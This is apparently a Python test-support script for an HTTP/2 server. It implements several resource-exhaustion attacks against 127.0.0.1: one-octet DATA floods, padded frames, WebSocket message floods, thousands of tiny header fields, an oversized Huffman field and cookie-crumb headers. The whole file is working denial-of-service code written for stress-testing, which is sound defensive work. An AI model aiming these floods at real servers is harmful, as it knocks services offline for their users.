"""An attacker of HTTP/2 that sends as fast as it can.

Usage: python -m tests.support.http2_attacks ATTACK PORT SECONDS plain|tls

It keeps to the windows that it is given, reads what it is sent, and connects again when it is sent
away.
"""

from __future__ import annotations

import select
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator

from hpack import Encoder
from hpack.huffman import HuffmanEncoder
from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 7, 8, 9
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
FRAME = 16384
STREAMS = 50
"""On which DATA is sent at the same time."""
FRAMES_AT_ONCE = 1000


def frame(kind: int, flags: int, number: int, body: bytes = b"") -> bytes:
    return struct.pack(">BHBBI", 0, len(body), kind, flags, number) + body


def section(number: int, block: bytes, *, ends: bool) -> bytes:
    """A field section on a new stream, in as many frames as it takes."""
    parts = [block[at : at + FRAME] for at in range(0, len(block), FRAME)]
    kinds = [HEADERS] + [CONTINUATION] * (len(parts) - 1)
    flags = [END_STREAM * ends] + [0] * (len(parts) - 1)
    flags[-1] |= END_HEADERS
    return b"".join(map(frame, kinds, flags, [number] * len(parts), parts))


def encoded(method: bytes, *more: tuple[bytes, bytes]) -> bytes:
    """A request's field section without a dynamic table."""
    fields = [(b":method", method), (b":scheme", b"http"), (b":authority", b"x"), *more]
    encoder = Encoder()
    encoder.header_table_size = 0
    return b"\x20" + bytes(encoder.encode(fields, huffman=False)[1:])


def literal(name: bytes, value: bytes) -> bytes:
    """A short field, not to be indexed."""
    return bytes((0, len(name))) + name + bytes((len(value),)) + value


class Attacker:
    """One connection after the other, on which field sections are sent, on new streams each.

    Args:
        port: on 127.0.0.1.
        secure: speak TLS.
        part: what is sent for the number of a stream.
    """

    def __init__(self, port: int, secure: bool, part: Callable[[int], bytes]) -> None:
        self.port = port
        self.secure = secure
        self.part = part
        self.windows: dict[int, int] = {}
        self.number = 1

    def run(self, seconds: float) -> int:
        """Attack; octets sent."""
        until = time.monotonic() + seconds
        sent = 0
        while time.monotonic() < until:
            try:
                for count in self.attack_once(until):
                    sent += count
            except OSError:
                time.sleep(0.001)
        return sent

    def connect(self) -> socket.socket:
        wire = socket.create_connection(("127.0.0.1", self.port), timeout=5)
        if self.secure:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            wire = context.wrap_socket(wire)
        wire.setblocking(False)
        return wire

    def attack_once(self, until: float) -> Iterator[int]:
        """Attack on one connection until it is closed; octets, as they are sent."""
        with self.connect() as wire:
            self.windows, self.number = {0: 65535}, 1
            out = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0) + self.begin()
            came = b""
            while time.monotonic() < until:
                if len(out) < 1 << 18:
                    out += self.more()
                readable, writable, _ = select.select([wire], [wire] if out else [], [], 0.05)
                if readable or self.secure:
                    came = self.read(wire, came)
                if writable:
                    try:
                        size = wire.send(out)
                    except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                        continue
                    out = out[size:]
                    yield size

    def begin(self) -> bytes:
        """What comes first on a connection."""
        return b""

    def more(self) -> bytes:
        """What comes next."""
        self.number += 2
        return self.part(self.number - 2)

    def read(self, wire: socket.socket, came: bytes) -> bytes:
        """Read and look for windows; what is not a whole frame yet."""
        try:
            while octets := wire.recv(1 << 18):
                came += octets
            raise ConnectionError("sent away")
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        while len(came) >= 9:
            _, size, kind, _, number = struct.unpack_from(">BHBBI", came)
            if len(came) < 9 + size:
                break
            if kind == WINDOW_UPDATE:
                increment = int.from_bytes(came[9:13], "big")
                self.windows[number] = self.windows.get(number, 0) + increment
            elif kind in (GOAWAY, RST_STREAM):
                raise ConnectionError("sent away")
            came = came[9 + size :]
        return came


class DataAttacker(Attacker):
    """DATA of one octet on many streams in turn, as far as the windows allow.

    Args:
        opening: field section of each stream.
        octets: that are sent, one by one and again and again.
        padded: the frames are.
    """

    def __init__(
        self, port: int, secure: bool, opening: bytes, octets: bytes, *, padded: bool
    ) -> None:
        super().__init__(port, secure, self.part_of)
        self.opening, self.octets = opening, octets
        self.flags, self.padding = (PADDED, b"\0") if padded else (0, b"")
        self.places: dict[int, int] = {}

    def begin(self) -> bytes:
        numbers = range(1, 2 * STREAMS, 2)
        self.windows.update(dict.fromkeys(numbers, 65536))
        self.places = dict.fromkeys(numbers, 0)
        return b"".join(section(number, self.opening, ends=False) for number in numbers)

    def part_of(self, number: int) -> bytes:
        number = number % (2 * STREAMS)
        size = 1 + len(self.padding)
        count = min(min(self.windows[0], self.windows[number]) // size, FRAMES_AT_ONCE)
        self.windows[0] -= count * size
        self.windows[number] -= count * size
        place, octets = self.places[number], self.octets
        self.places[number] = place + count
        return b"".join(
            frame(DATA, self.flags, number, self.padding + octets[at : at + 1])
            for at in (at % len(octets) for at in range(place, place + count))
        )


def huffman(octets: int) -> bytes:
    """A field whose value takes so many octets of Huffman code, five bits for each of its own."""
    value = HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH).encode(b"a" * (octets * 8 // 5))
    size = len(value)
    head = bytearray(b"\xff")
    size -= 127
    while size >= 128:
        head.append(128 | size & 127)
        size >>= 7
    head.append(size)
    return b"\x00\x01b" + bytes(head) + value


def attacker(attack: str, port: int, secure: bool) -> Attacker:
    """The attacker of a name in ATTACKS."""
    get = encoded(b"GET", (b":path", b"/"))
    block: bytes | None = None
    if attack == "tiny fields":
        block = get + literal(b"a", b"") * 3500
    elif attack == "Huffman code":
        block = get + huffman(75_000)
    elif attack == "cookie crumbs":
        block = b"\x3f\xe1\x1f" + get[1:] + b"\x40\x06cookie\x01a" + b"\xbe" * 3300
    if block is not None:
        return Attacker(port, secure, lambda number: section(number, block, ends=True))
    padded = attack.startswith("padded")
    if attack.endswith("WebSocket"):
        opening = encoded(
            b"CONNECT", (b":protocol", b"websocket"), (b":path", b"/"),
            (b"sec-websocket-version", b"13"),
        )  # fmt: skip
        octets = b"\x82\xfe\x20\x00" + bytes(4 + 8192)  # a message, again and again
    else:
        opening, octets = encoded(b"POST", (b":path", b"/")), b"x"
    return DataAttacker(port, secure, opening, octets, padded=padded)


ATTACKS = (
    "DATA", "padded DATA", "tiny fields", "Huffman code", "cookie crumbs", "WebSocket",
    "padded WebSocket",
)  # fmt: skip


if __name__ == "__main__":
    name, port, seconds, layer = sys.argv[1:]
    print("attacking", flush=True)
    print(attacker(name, int(port), layer == "tls").run(float(seconds)), flush=True)
